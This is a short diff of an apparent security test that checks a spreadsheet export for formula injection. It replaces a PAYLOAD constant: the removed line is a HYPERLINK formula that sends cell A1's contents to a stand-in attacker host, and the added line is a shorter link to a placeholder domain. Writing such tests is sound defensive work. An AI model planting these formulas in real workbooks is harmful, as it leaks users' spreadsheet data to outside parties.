@@ -16,7 +16,7 @@ from tests.security.conftest import LiveServer
 from xuanren.common.cells import xlsx_set
 from xuanren.exchange.xlsx_workbook import sample_cadre_rows
 
-PAYLOAD = '=HYPERLINK("http://attacker.invalid/?"&A1,"点击")'
+PAYLOAD = '=HYPERLINK("//x.invalid","点")'  # fits the 30-character name
 
 
 def _no_formula(content: bytes) -> None:
